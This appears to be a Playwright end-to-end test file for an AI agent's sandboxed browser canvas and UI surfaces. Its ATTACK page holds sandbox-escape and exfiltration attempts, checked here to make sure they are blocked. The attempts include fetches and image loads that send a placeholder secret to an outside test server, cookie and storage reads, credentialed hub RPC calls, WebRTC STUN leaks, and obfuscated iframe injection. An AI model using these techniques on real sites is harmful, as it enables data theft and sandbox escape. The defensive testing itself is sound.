"""The canvas in a real browser: an agent's own pages, sandboxed, and its surfaces, whose buttons a person presses."""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import AsyncIterator
from typing import Any
from uuid import uuid4

import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import BrowserContext, Page, expect

from tests.e2e.talk import until
from tests.servers.hub_process import HubProcess
from tests.servers.openai_server import OpenAIServer
from tests.web.browser import Chromium, is_ready
from tests.web.conftest import home_file

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

ATTACK = """<!doctype html><title>x</title><p id="out">…</p><img src="OUTSIDE?q=SECRET">
<iframe SrcDoc='<script>const call = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]});
  call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));</script>'></iframe>
<script>
const tries = {
  parent: () => parent.document.title,
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  hub: () => fetch("HUB/api/rpc", {method: "POST", credentials: "include", body: "{}"}),
  outside: () => fetch("OUTSIDE?q=SECRET"),
  socket: () => new Promise((done, failed) => {
    const socket = new WebSocket("HUB".replace("http", "ws") + "/live");
    socket.onopen = done; socket.onerror = failed;
  }),
  window: () => open("OUTSIDE").closed,
  call: () => new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]}),
};
const call = `<scr` + `ipt>const call = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]});
  call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));</scr` + `ipt>`;
Element.prototype.remove = String.prototype.includes = () => false;
document.write("<iframe src");
document.write(`doc='${call}'></iframe>`);
const sheet = new XMLHttpRequest();
sheet.onload = () => {
  document.documentElement.append(document.importNode(sheet.responseXML.documentElement.firstElementChild, true));
};
sheet.open("GET", "sheet.xml");
sheet.send();
for (const how of ["property", "attribute", "html", "shadow"]) {
  const frame = document.createElement("iframe");
  try {
    if (how === "shadow") {
      document.getElementById("out").before(document.createElement("b"));
      frame.srcdoc = call;
      document.querySelector("b").attachShadow({mode: "closed"}).append(frame);
      continue;
    }
    if (how === "property") frame["src" + "doc"] = call;
    else if (how === "attribute") frame.setAttribute("src" + "doc", call);
    document.documentElement.append(frame);
    if (how === "html") document.documentElement.insertAdjacentHTML("beforeend", `<iframe src${"doc"}='${call}'>`);
  } catch {}
}
const reached = [];
Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
  try { await attempt(); reached.push(name); } catch {}
})).then(() => {
  document.getElementById("out").textContent = `reached: ${reached.join(" ") || "nothing"}`;
});
</script>"""
SHEET = """<r><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>
  const call = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});
  call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer));
  &lt;/script>"/></r>"""
HEARD = web.AppKey("heard", list[str])
SURFACE = [
    {
        "surfaceUpdate": {
            "surfaceId": "table",
            "components": [
                {"id": "root", "component": {"Column": {"children": {"explicitList": ["head", "name", "book"]}}}},
                {"id": "head", "component": {"Text": {"usageHint": "h2", "text": {"path": "/head"}}}},
                {
                    "id": "name",
                    "component": {"TextField": {"label": {"literalString": "Name"}, "text": {"path": "/name"}}},
                },
                {
                    "id": "book",
                    "component": {
                        "Button": {
                            "child": "label",
                            "primary": True,
                            "action": {
                                "name": "book",
                                "context": [
                                    {"key": "table", "value": {"literalNumber": 7}},
                                    {"key": "name", "value": {"path": "/name"}},
                                ],
                            },
                        }
                    },
                },
                {"id": "label", "component": {"Text": {"text": {"literalString": "Book"}}}},
            ],
        }
    },
    {"dataModelUpdate": {"surfaceId": "table", "contents": [{"key": "head", "valueString": "<b>A table</b>"}]}},
    {"beginRendering": {"surfaceId": "table", "root": "root"}},
]


def calls(name: str, **arguments: Any) -> dict[str, Any]:
    return {"tool_call": {"name": name, "arguments": arguments, "id": f"call-{name}-{arguments.get('action', '')}"}}


async def run(hub: HubProcess, server: OpenAIServer, *steps: dict[str, Any], key: str = "") -> list[str]:
    """Have the agent call tools; return what they answered."""
    server.queue(*steps, "done")
    run_id = f"canvas-{uuid4().hex}"
    key = key or run_id
    await asyncio.to_thread(hub.rpc, "chat.send", {"sessionKey": key, "message": "show", "idempotencyKey": run_id})
    await asyncio.to_thread(hub.rpc, "agent.wait", {"runId": run_id, "timeoutMs": 50_000})
    entries = (await asyncio.to_thread(hub.rpc, "sessions.transcript", {"key": key}))["entries"]
    messages = [entry["message"] for entry in entries if entry["type"] == "message"]
    return [each["content"][0]["text"] for each in messages if each["role"] == "toolResult"]


async def opened(context: BrowserContext) -> Page:
    page = await context.new_page()
    await page.goto("/canvas")
    await is_ready(page)
    await page.wait_for_selector("#canvas[data-live=on]")
    return page


@pytest_asyncio.fixture(loop_scope="session")
async def outside() -> AsyncIterator[TestServer]:
    """Another server, which notes what reaches it."""
    app = web.Application()
    heard: list[str] = []
    app[HEARD] = heard

    async def hear(request: web.Request) -> web.Response:
        heard.append(request.path_qs)
        return web.Response(text="heard", headers={"Access-Control-Allow-Origin": "*"})

    app.router.add_route("*", "/{path:.*}", hear)
    server = TestServer(app)
    await server.start_server()
    yield server
    await server.close()


async def test_a_page_of_the_canvas_reaches_nothing_and_is_read_and_loaded_again(
    signed_in: BrowserContext, chromium: Chromium, hub: HubProcess, model_server: OpenAIServer, outside: TestServer
) -> None:
    chromium.allowed += ["request to the outside", "Content Security Policy", "sandboxed", "ERR_"]
    page = await opened(signed_in)
    await expect(page.get_by_text("Nothing is shown.")).to_be_visible()
    html = ATTACK.replace("HUB", hub.url).replace("OUTSIDE", str(outside.make_url("/")))
    calling = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    calling.bind(("127.0.0.1", 0))
    calling.setblocking(False)
    html, sheet = (each.replace("UDP", f"127.0.0.1:{calling.getsockname()[1]}") for each in (html, SHEET))

    told = await run(
        hub,
        model_server,
        calls("write", path="canvas/sheet.xml", content=sheet),
        calls("write", path="canvas/index.html", content=html),
        calls("canvas", action="present"),
    )
    out = page.frame_locator("#canvas-frame").locator("#out")
    await expect(out).to_have_text("reached: nothing")
    asked = await run(
        hub,
        model_server,
        calls("canvas", action="eval", script="document.getElementById('out').textContent + (1 + 1)"),
        calls("canvas", action="snapshot"),
    )

    leaving = f"setTimeout(() => {{ location = '{outside.make_url('/')}?q=SECRET'; }}); 'leaving'"
    left = await run(hub, model_server, calls("canvas", action="eval", script=leaving))

    assert told[2] == "The canvas shows index.html."
    assert "reached: nothing2" in asked[0]
    assert "<<<outside" in asked[0]
    assert "reached: nothing" in asked[1]
    assert "leaving" in left[0]
    assert outside.app[HEARD] == []
    with calling, pytest.raises(BlockingIOError):
        calling.recv(2_000)
    await asyncio.to_thread(home_file(hub, "workspace/canvas/index.html").write_text, "<p id=out>another</p>")
    await expect(out).to_have_text("another")


async def test_a_button_of_a_surface_writes_to_its_conversation_as_who_pressed_it(
    signed_in: BrowserContext, chromium: Chromium, hub: HubProcess, model_server: OpenAIServer
) -> None:
    chromium.allowed += ["request to the outside"]  # the canvas is an origin of its own
    page = await opened(signed_in)
    pushed = "\n".join(json.dumps(each) for each in SURFACE)

    await run(hub, model_server, calls("canvas", action="a2ui_push", jsonl=pushed))
    await expect(page.get_by_role("heading", name="<b>A table</b>")).to_be_visible()
    await page.get_by_label("Name").fill("Ada")
    model_server.queue("booked")
    await page.get_by_role("button", name="Book").click()
    await expect(page.get_by_text("Sent", exact=True)).to_be_visible()

    pressed = '"context":{"table":7,"name":"Ada"}'
    await asyncio.to_thread(until, lambda: pressed in str(model_server.requests()[-1]["body"]["messages"][-1]))
    told = await run(hub, model_server, calls("canvas", action="snapshot"), calls("canvas", action="a2ui_reset"))
    assert "A table" in told[0]
    await expect(page.locator(".surface")).to_have_count(0)


async def test_a_tab_is_let_go_when_the_canvas_is_and_comes_back(
    signed_in: BrowserContext, chromium: Chromium, hub: HubProcess
) -> None:
    # The canvas has a port of its own, at which nobody answers for a moment.
    chromium.allowed += ["request to the outside", "WebSocket", "ERR_CONNECTION_REFUSED"]
    page = await opened(signed_in)
    await page.evaluate("document.getElementById('canvas').dataset.live = 'of the canvas before'")

    await asyncio.to_thread(hub.rpc, "integration.reload", {"domain": "canvas"})

    await expect(page.locator("#canvas")).to_have_attribute("data-live", "on")


async def test_a_widget_is_a_sandboxed_page_in_the_chat(
    signed_in: BrowserContext, chromium: Chromium, hub: HubProcess, model_server: OpenAIServer
) -> None:
    chromium.allowed += ["request to the outside", "sandboxed"]
    script = "try { out.textContent = parent.document.title } catch { out.textContent = 'alone' }"
    html, key = f"<h1>Rain</h1><p id=out></p><script>{script}</script>", f"agent:main:widget-{uuid4().hex}"

    told = await run(hub, model_server, calls("show_widget", title="The rain", html=html), key=key)
    chat = await signed_in.new_page()
    await chat.goto(f"/chat?session={key}")
    shown = chat.frame_locator("iframe[title='The rain']")
    await expect(shown.locator("#out")).to_have_text("alone")

    assert "is shown in the chat" in told[0]
